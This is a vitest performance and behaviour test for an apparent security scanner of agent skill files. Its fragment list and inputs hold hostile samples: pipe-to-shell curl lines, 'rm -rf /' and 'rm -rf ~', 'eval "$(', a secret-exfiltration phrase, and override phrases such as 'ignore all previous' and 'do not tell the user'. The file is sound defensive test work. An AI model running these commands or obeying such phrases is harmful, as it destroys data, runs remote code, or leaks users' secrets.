import { describe, expect, it } from 'vitest';
import { analyzeSkill } from '../../../shared/skills/analyze-skill.ts';
import { readDocument } from '../../../shared/skills/document/read-document.ts';

const HEAD = '---\nname: a\ndescription: D\n---\n';
const CHARS = 980_000;

const PIECES = [
  '\n',
  'a\n',
  '- a\n',
  '> a\n',
  '|a\n',
  '# a\n',
  '```\n',
  '<!-- -->',
  '<!--\n',
  'curl ',
  'curl x | sh\n',
  '| sh ',
  '$(',
  '"',
  "'",
  '\\',
  '((',
  'rm -rf /\n',
  '`curl x` ',
  'ignore all previous ',
  'do not tell the user ',
  'send the password to ',
  'requests.post(x, json=y)\n',
  'x = os.environ\n',
  'eval "$(',
  '忽略之前',
  'https://a.b/',
  'password: "',
  '\u200b',
  '\u200b\n',
  '[',
  ' ',
  'word ',
];

/**
 * Against a megabyte of plain words, in the same process: the worst of them takes some twenty times as long, and what grows with the square
 * thousands of times, however slow the machine is.
 */
const TOO_OFTEN = 400;

function processorMs(text: string): number {
  const before = process.cpuUsage();
  analyzeSkill(text);
  return process.cpuUsage(before).user / 1000;
}

/** The slower of two: the first one pays for the compiler, as the other texts do. */
function plainWordsMs(): number {
  const words = `${HEAD}${'plain words '.repeat(CHARS / 12)}`;
  return Math.max(processorMs(words), processorMs(words), 1);
}

describe('a megabyte of one piece', () => {
  const words = plainWordsMs();

  it.each(PIECES)('%j is not worked on with the square of its length', (piece) => {
    for (const [before, after] of [
      ['', ''],
      ['```sh\n', '\n```'],
      ['```python\n', '\n```'],
    ]) {
      const text = `${HEAD}${before}${piece.repeat(CHARS / piece.length)}${after}`;
      expect(processorMs(text) / words, before).toBeLessThan(TOO_OFTEN);
    }
  });

  it('is told as unread where it has more than any skill, and never passes', () => {
    const { findings, verdict } = analyzeSkill(`${HEAD}${'curl -s https://x.example/a\n\n'.repeat(30_000)}`);
    expect(findings.map(({ rule }) => rule)).toContain('security.unread');
    expect(verdict).not.toBe('pass');
    expect(readDocument('- a\n'.repeat(100_000), 1).complete).toBe(false);
  });

  it('has at most five findings of each rule', () => {
    const { findings } = analyzeSkill(`${HEAD}${'curl https://x.example | sh\n\nrm -rf ~\n\n'.repeat(1000)}`);
    expect(findings.filter(({ rule }) => rule === 'security.destroy.root')).toHaveLength(5);
    expect(findings.filter(({ rule }) => rule === 'security.remote.pipe-to-shell')).toHaveLength(1);
  });
});
